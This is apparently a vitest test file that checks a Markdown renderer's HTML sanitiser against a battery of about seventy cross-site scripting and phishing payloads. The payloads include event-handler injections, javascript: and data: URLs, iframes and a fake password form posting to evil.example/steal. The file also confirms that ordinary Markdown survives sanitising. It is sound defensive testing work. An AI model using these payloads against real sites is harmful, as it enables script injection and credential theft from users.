import { JSDOM } from 'jsdom';
import { afterAll, describe, expect, it } from 'vitest';
import {
  MARKDOWN_ALLOWED_ATTRIBUTES,
  MARKDOWN_ALLOWED_TAGS,
  MARKDOWN_LINK_REL,
  createMarkdownRenderer,
  markdownToHtml,
  renderMarkdown,
} from './render-markdown';
import { reportUiBatteryFigure } from '../../test/battery-figure';

/** What an author might write to restyle, cover, script or phish through a Markdown field. */
const PAYLOADS: readonly string[] = [
  // style, class and id from the author
  '<p style="position:fixed;inset:0;z-index:99999;background:white">Session expired</p>',
  '<a href="https://evil.example/login" style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;display:block;background:#fff">Sign in again</a>',
  '<div class="overlay" id="root">taken over</div>',
  '<span class="_1abc2 sprinkles_position_fixed">borrowed app class</span>',
  '<h2 id="main-content">A heading with the app\'s landmark id</h2>',
  '<p id="__proto__" name="getElementById">clobbering</p>',
  '<img src="https://example.com/a.png" alt="a" style="position:fixed;inset:0;width:100%;height:100%">',
  '<table style="position:absolute"><tr><td class="x" style="width:9999px">cell</td></tr></table>',
  '[link](https://example.com "title")',
  // scripts and event handlers
  '<svg onload="window.__markdownHacked=1"><circle r="40"></circle></svg>',
  '<svg><script>window.__markdownHacked=1</script></svg>',
  '<svg><foreignObject><div style="position:fixed;inset:0">x</div></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<img src="x" onerror="window.__markdownHacked=1" alt="broken">',
  '<img src=x onerror=alert(1)//>',
  '<script>window.__markdownHacked=1</script>',
  '<body onload="alert(1)">',
  '<details open ontoggle="alert(1)"><summary>open me</summary></details>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart="alert(1)">moving</marquee>',
  '<p onclick="alert(1)" onmouseover="alert(1)">hover</p>',
  // embedding, forms and inputs
  '<iframe src="https://evil.example" width="100%" height="100%"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example/steal"><input name="password" type="password"><button>Sign in</button></form>',
  '<input type="text" value="x" autofocus onfocus="alert(1)">',
  '<textarea>x</textarea><select><option>a</option></select>',
  '<button formaction="https://evil.example">Go</button>',
  '<dialog open>modal</dialog>',
  '<div popover>pop</div>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<style>body{display:none}</style>',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  // positioned / layered elements
  '<div style="position:fixed;top:0;left:0;right:0;bottom:0"><a href="https://evil.example">Your session expired, sign in</a></div>',
  '<div hidden inert tabindex="-1" role="dialog" aria-modal="true" aria-label="Sign in">fake dialog</div>',
  '<font size="7" color="red" face="x">big</font><center>c</center>',
  // dangerous links
  '[click](javascript:alert(1))',
  '<a href="javascript:alert(1)">js</a>',
  '<a href="JaVaScRiPt:alert(1)">js mixed case</a>',
  '<a href="java&#x09;script:alert(1)">js entity</a>',
  '<a href=" javascript:alert(1)">js leading space</a>',
  '<a href="vbscript:msgbox(1)">vb</a>',
  '[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '<a href="data:text/html,<script>alert(1)</script>">data link</a>',
  '![svg data](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '<img src="data:text/html,<script>alert(1)</script>" alt="data html">',
  '<a href="https://example.com" target="_top" rel="opener">target top</a>',
  '<a href="/projects/1" target="_self" rel="external">inside Keel</a>',
  '<a href="mailto:pat@example.com">mail</a>',
  '<a href="https://example.com" data-x="1" aria-hidden="true" name="x">data and aria</a>',
  // nested HTML inside Markdown
  '**bold <span style="position:fixed">fixed</span>** and _em <i class="x">i</i>_',
  '- item <div style="position:fixed">fixed in a list</div>\n- [link](https://example.com)',
  '> quote <img src=x onerror=alert(1)>\n> <a href="javascript:alert(1)">x</a>',
  '| a | b |\n| - | - |\n| <div style="position:fixed">x</div> | <svg onload=alert(1)> |',
  '```html\n<div style="position:fixed">inside code</div>\n```',
  '`<img src=x onerror=alert(1)>`',
  '[<img src=x onerror=alert(1)>](https://example.com)',
  '[text](https://example.com"onmouseover="alert(1))',
  '<a href="https://example.com"><div style="position:fixed;inset:0">block in link</div></a>',
  '<<script>script>alert(1)<</script>/script>',
  '<scr<script>ipt>alert(1)</script>',
  '<!--<img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<p/onclick=alert(1)>x</p>',
  '<a href="https://example.com" style="display:block;width:100vw;height:100vh">huge link</a>',
];

const ALLOWED_TAGS = new Set(MARKDOWN_ALLOWED_TAGS.map((tag) => tag.toUpperCase()));
const ALLOWED_ATTRIBUTES = new Set([...MARKDOWN_ALLOWED_ATTRIBUTES, 'rel', 'target']);
const DANGEROUS_URL = /^\s*(?:javascript|vbscript|data):/i;
const DATA_IMAGE = /^data:image\/(?:png|gif|jpe?g|webp);/i;

/** Every element, attribute and link of the output that breaks the rules, as readable text. */
function violations(html: string): string[] {
  // Inspected in a template: a detached fragment, nothing runs.
  const template = document.createElement('template');
  template.innerHTML = html;
  const found: string[] = [];
  for (const element of template.content.querySelectorAll('*')) {
    if (!ALLOWED_TAGS.has(element.tagName)) found.push(`element <${element.tagName}>`);
    for (const { name, value } of Array.from(element.attributes)) {
      if (!ALLOWED_ATTRIBUTES.has(name)) found.push(`attribute ${name} on <${element.tagName}>`);
      if ((name === 'href' || name === 'src') && DANGEROUS_URL.test(value)) {
        if (!(element.tagName === 'IMG' && name === 'src' && DATA_IMAGE.test(value))) {
          found.push(`${name}="${value}" on <${element.tagName}>`);
        }
      }
    }
    if (element.tagName === 'A') {
      if (element.getAttribute('rel') !== MARKDOWN_LINK_REL) found.push('a link without the rel');
      const target = element.getAttribute('target');
      if (target !== null && target !== '_blank') found.push(`target=${target}`);
    }
  }
  return found;
}

let rendered = 0;
let offending = 0;
/** As the API makes it: a window of its own, not the test page's. */
const serverRender = createMarkdownRenderer(new JSDOM('').window);

describe('renderMarkdown: payload battery', () => {
  afterAll(async () => {
    await reportUiBatteryFigure(
      `[security] markdown payloads rendered: ${rendered}, ${offending} kept a forbidden attribute/element`,
    );
  });

  it.each(PAYLOADS.map((payload) => [payload]))('%s', (payload) => {
    const html = renderMarkdown(payload);
    rendered += 1;
    const found = violations(html);
    if (found.length > 0) offending += 1;
    expect(found, html).toEqual([]);
    // The server renders the public report's texts with the same renderer over a jsdom
    // window of its own (packages/api/src/lib/markdown.ts): the same HTML, so the battery
    // holds there too.
    expect(serverRender(payload)).toBe(html);
  });

  it('hands DOMPurify no handler, style, class or id from the author, nor svg or math', () => {
    // Even DOMPurify's detached parse reports inline handlers to the page's CSP in Chromium.
    for (const payload of PAYLOADS) {
      const template = document.createElement('template');
      template.innerHTML = markdownToHtml(payload);
      for (const element of template.content.querySelectorAll('*')) {
        expect(['svg', 'math', 'script', 'style', 'iframe']).not.toContain(element.localName);
        for (const { name } of Array.from(element.attributes)) {
          expect(name, payload).not.toMatch(/^on|^style$|^id$/);
          if (name === 'class') expect(element.localName, payload).toBe('code');
        }
      }
    }
  });

  it('sanitises without touching the live document (no element, no handler runs)', () => {
    const mutations: MutationRecord[] = [];
    const observer = new MutationObserver((records) => mutations.push(...records));
    observer.observe(document, { childList: true, subtree: true, attributes: true });
    const before = document.documentElement.outerHTML;
    for (const payload of PAYLOADS) renderMarkdown(payload);
    mutations.push(...observer.takeRecords());
    observer.disconnect();
    expect(mutations).toEqual([]);
    expect(document.documentElement.outerHTML).toBe(before);
    expect((window as { __markdownHacked?: number }).__markdownHacked).toBeUndefined();
  });
});

describe('renderMarkdown: what authors keep', () => {
  it('keeps Markdown structure: headings, lists, tables, code, quotes and links', () => {
    const html = renderMarkdown(
      '# Title\n\n- one\n- two\n\n1. first\n\n| a | b |\n| :-: | - |\n| 1 | 2 |\n\n> quote\n\n```js\nconst x = 1;\n```\n\n**b** _i_ ~~s~~ [plan](https://example.com/plan) ![chart](https://example.com/c.png)',
    );
    const template = document.createElement('template');
    template.innerHTML = html;
    const tags = new Set(Array.from(template.content.querySelectorAll('*'), (e) => e.localName));
    for (const tag of ['h1', 'ul', 'ol', 'li', 'table', 'th', 'td', 'blockquote', 'pre', 'code']) {
      expect(tags).toContain(tag);
    }
    for (const tag of ['strong', 'em', 'del', 'a', 'img']) expect(tags).toContain(tag);
    const link = template.content.querySelector('a')!;
    expect(link.getAttribute('href')).toBe('https://example.com/plan');
    expect(link.getAttribute('rel')).toBe('noopener noreferrer nofollow');
    expect(link.getAttribute('target')).toBe('_blank');
    expect(template.content.querySelector('code')!.hasAttribute('class')).toBe(false);
  });

  it("gives a link inside Keel the rel but no new tab, and drops the author's target", () => {
    const template = document.createElement('template');
    template.innerHTML = renderMarkdown('<a href="/projects/1" target="_top">project</a>');
    const link = template.content.querySelector('a')!;
    expect(link.getAttribute('href')).toBe('/projects/1');
    expect(link.getAttribute('rel')).toBe('noopener noreferrer nofollow');
    expect(link.hasAttribute('target')).toBe(false);
  });

  it('keeps allowed raw HTML with its allowed attributes only', () => {
    const template = document.createElement('template');
    template.innerHTML = renderMarkdown(
      'Press <kbd>Ctrl</kbd>+<kbd class="k">K</kbd><br/><a href="https://example.com" title="t" onclick="x()">site</a>',
    );
    expect(template.innerHTML).toBe(
      '<p>Press <kbd>Ctrl</kbd>+<kbd>K</kbd><br><a href="https://example.com" title="t" rel="noopener noreferrer nofollow" target="_blank">site</a></p>\n',
    );
  });

  it('keeps a picture given as data of an image type', () => {
    const gif = 'data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7';
    const template = document.createElement('template');
    template.innerHTML = renderMarkdown(`![dot](${gif})`);
    expect(template.content.querySelector('img')!.getAttribute('src')).toBe(gif);
  });
});
